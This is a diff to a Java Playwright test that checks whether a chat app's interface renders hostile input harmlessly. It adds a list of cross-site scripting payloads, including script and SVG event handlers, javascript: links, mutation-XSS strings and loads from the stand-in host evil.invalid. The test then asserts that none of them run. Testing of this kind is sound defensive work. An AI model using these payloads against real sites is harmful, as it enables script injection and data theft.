@@ -4,10 +4,13 @@ import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertTha
 import static org.junit.jupiter.api.Assertions.assertEquals;
 
 import com.microsoft.playwright.Locator;
+import com.microsoft.playwright.Page;
 import com.microsoft.playwright.options.AriaRole;
 import java.nio.file.Path;
 import java.util.List;
 import java.util.Map;
+import java.util.stream.Collectors;
+import java.util.stream.IntStream;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.extension.RegisterExtension;
 import tablechat.testing.InTurn;
@@ -38,6 +41,26 @@ final class HostileIT {
             <script>window.pwned=1</script>
             ```
             """;
+
+    /// One of each class: what runs, what fetches, what a sanitiser or a parser may let through, what takes the names of things.
+    private static final List<String> PAYLOADS = List.of(
+            SCRIPT, IMAGE, "<ScRiPt src=//evil.invalid/x.js></sCrIpT>", "<svg/onload=window.pwned=1>",
+            "<svg><script href=http://evil.invalid/x.js></script><animate onbegin=window.pwned=1 attributeName=x></svg>",
+            "<iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>", "<object data=http://evil.invalid/o></object>",
+            "<embed src=http://evil.invalid/e>", "<video><source onerror=window.pwned=1></video>", "<details open ontoggle=window.pwned=1>",
+            "<body onpageshow=window.pwned=1>", "<link rel=stylesheet href=http://evil.invalid/l.css>",
+            "<style>@import 'http://evil.invalid/s.css'</style>", "<base href=http://evil.invalid/>",
+            "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>", "<form action=http://evil.invalid/><button>x</button></form>",
+            "[a](javascript:window.pwned=1)", "[b](JaVaScRiPt:window.pwned=1)", "[c](java\tscript:window.pwned=1)",
+            "[d](&#106;avascript:window.pwned=1)", "[e](data:text/html,<script>window.pwned=1</script>)", "[f](vbscript:x)",
+            "<a href=\" javascript:window.pwned=1\">g</a>", "<javascript:window.pwned=1>", "[h]: javascript:window.pwned=1",
+            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.pwned=1&gt;\">",
+            "<noscript><p title=\"</noscript><img src=x onerror=window.pwned=1>\">",
+            "<svg></p><style><a id=\"</style><img src=1 onerror=window.pwned=1>\">",
+            "<img name=getElementById><form id=body><input name=attributes>", "<a id=CSS><a id=CSS name=highlights>",
+            "![i](http://evil.invalid/i.png)", "![j](//evil.invalid/j \"title\")", "![k][k]\n\n[k]: http://evil.invalid/k.png",
+            "[![l](http://evil.invalid/l.png)](http://evil.invalid/)", "<http://evil.invalid/auto>", "http://evil.invalid/bare",
+            "{{constructor.constructor('window.pwned=1')()}}", "\u202e</script><script>window.pwned=1</script>");
 
     @RegisterExtension
     final Stage stage = Stage.wide();
@@ -114,9 +137,55 @@ final class HostileIT {
         assertHarmless(tab);
     }
 
+    @Test
+    void noPayloadRunsOrFetchesWhereverItStands() throws Exception {
+        String all = String.join("\n\n", PAYLOADS);
+        String cells = "select '' as " + quoted(all, '"')
+                + PAYLOADS.stream().map(payload -> " union all select " + quoted(payload, '\'')).collect(Collectors.joining());
+        String titles = all.replaceAll("\\s+", " ").substring(0, 190);
+        stage.model().calls("run_query", Map.of("sql", cells)).replies(letters(all)).titles(Line.text(titles))
+                .fails(all);
+        Tab tab = stage.tab();
+        tab.ask(all);
+        assertThat(tab.button("Retry")).isVisible();
+        tab.answer().getByText("Ran a query").click();
+        assertThat(tab.answer().getByRole(AriaRole.ROW)).hasCount(PAYLOADS.size() + 2);
+        tab.ask("Fail");
+        assertThat(tab.answer()).containsText("<svg/onload=window.pwned=1>");
+        for (String payload : PAYLOADS) {
+            try (TestClient client = stage.server().client()) {
+                client.await("welcome");
+                client.send(Map.of("type", "session.create", "title", payload));
+            }
+        }
+        stage.server().chat().connections().configure(IMAGE, "sqlite:" + stage.folder().path().resolve("sample.db"));
+        tab.page().reload();
+        assertThat(tab.page().getByRole(AriaRole.OPTION, new Page.GetByRoleOptions().setName(IMAGE))).hasCount(1);
+
+        tab.page().getByRole(AriaRole.SEARCHBOX).first().fill("window.pwned");
+        assertThat(tab.page().locator("mark").first()).isVisible();
+        assertHarmless(tab);
+        tab.press("Control+K");
+        tab.page().keyboard().type("onerror");
+        assertThat(tab.page().locator("#palette-list li").first()).isVisible();
+        assertHarmless(tab);
+    }
+
+    /// Split over tokens, so that no piece is what the whole is.
+    private static Line[] letters(String text) {
+        return IntStream.iterate(0, at -> at < text.length(), at -> at + 3)
+                .mapToObj(at -> Line.text(text.substring(at, Math.min(text.length(), at + 3)))).toArray(Line[]::new);
+    }
+
+    private static String quoted(String text, char mark) {
+        return mark + text.replace("" + mark, "" + mark + mark) + mark;
+    }
+
     private static void assertHarmless(Tab tab) {
-        assertThat(tab.page().locator("body :is(img, script, iframe, object, embed, form, svg[onload])")).hasCount(0);
-        assertThat(tab.page().locator("body a:not([href^='#/s/'], [href^='results/'])")).hasCount(0);
+        assertThat(tab.page().locator("body :is(img, script, iframe, object, embed, video, link, style, base, meta, form, math)"))
+                .hasCount(0);
+        assertThat(tab.page().locator("body svg:not(.icon), body :is([onload], [onerror], [ontoggle], [style*=url])")).hasCount(0);
+        assertThat(tab.page().locator("body a:not([href^='#/s/'], [href^='results/'], [href^='sessions/'])")).hasCount(0);
         // An image that cannot be loaded tells its onerror only some time later.
         tab.page().evaluate("() => new Promise(then => setTimeout(then, 100))");
         assertEquals("undefined", tab.page().evaluate("() => typeof window.pwned"));
